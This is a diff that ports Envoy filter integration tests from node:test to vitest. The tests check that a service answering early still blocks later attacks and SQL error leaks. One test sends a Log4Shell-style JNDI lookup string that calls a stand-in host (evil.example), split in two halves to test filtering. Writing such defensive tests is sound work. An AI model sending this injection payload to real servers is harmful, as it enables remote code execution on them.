@@ -1,8 +1,7 @@
 // Through the real Envoy: a service that answers before the request's end. What comes of the request afterwards is inspected as
 // if nothing had been answered, and the answer as if the request had ended.
 
-import assert from 'node:assert/strict';
-import { after, before, describe, it } from 'node:test';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Answer } from '../../demo/stack/answer.ts';
 import type { Arrival, HeaderPairs } from '../../demo/stack/arrivals.ts';
 import type { Request } from '../../demo/stack/client.ts';
@@ -53,10 +52,10 @@ const isStopped = ({ status, end }: Answer): boolean => status === 403 || end ==
 for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
   describe(`a service that answers early, ${mode}`, () => {
     let front: Front;
-    before(async () => {
+    beforeAll(async () => {
       front = await Front.start({ mode });
     });
-    after(() => front.stop());
+    afterAll(() => front.stop());
 
     for (const protocol of protocols) {
       it(`does not get an attack that comes after its answer (${protocol})`, async () => {
@@ -65,8 +64,8 @@ for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
           for (const isOpen of [true, false]) {
             const plan = { answer: 'begun', type, pieces: [text], isOpen };
             const { answer, arrival } = await exchange(front, plan, protocol);
-            assert.ok(isStopped(answer), `${type}: ${answer.status} ${answer.end}`);
-            assert.equal(arrival?.bodyBytes, 0, type);
+            expect(isStopped(answer), `${type}: ${answer.status} ${answer.end}`).toBeTruthy();
+            expect(arrival?.bodyBytes, type).toBe(0);
           }
         }
       });
@@ -74,8 +73,8 @@ for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
       it(`does not get an attack in two halves, one before and one after more of the answer (${protocol})`, async () => {
         const plan = { answer: 'j', pieces: ['\x24{jn', 'di:ldap://evil.example/a}'], isOpen: true };
         const { answer, arrival } = await exchange(front, plan, protocol);
-        assert.ok(isStopped(answer));
-        assert.ok((arrival?.bodyBytes ?? 0) <= 5, `${arrival?.bodyBytes}`);
+        expect(isStopped(answer)).toBeTruthy();
+        expect(arrival?.bodyBytes ?? 0, `${arrival?.bodyBytes}`).toBeLessThanOrEqual(5);
       });
 
       it(`has its leak stopped while the request is open (${protocol})`, async () => {
@@ -85,16 +84,16 @@ for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
             { answer: leak, pieces: ['abc'], isOpen: true, more: ends },
             protocol,
           );
-          assert.ok(isStopped(answer), `${answer.status} ${answer.end}`);
-          assert.ok(!answer.body.includes('SQL syntax'), answer.body);
+          expect(isStopped(answer), `${answer.status} ${answer.end}`).toBeTruthy();
+          expect(answer.body.includes('SQL syntax'), answer.body).toBe(false);
         }
       });
 
       it(`may show SQL while a harmless request is open (${protocol})`, async () => {
         const pieces = [harmlessBody(1000).toString('latin1'), 'the end'];
         const { answer, arrival } = await exchange(front, { answer: `<pre>${attack}</pre>`, pieces }, protocol);
-        assert.deepEqual([answer.status, answer.end, arrival?.bodyBytes], [200, 'complete', 1007]);
-        assert.ok(answer.body.includes(attack));
+        expect([answer.status, answer.end, arrival?.bodyBytes]).toStrictEqual([200, 'complete', 1007]);
+        expect(answer.body.includes(attack)).toBe(true);
       });
     }
   });
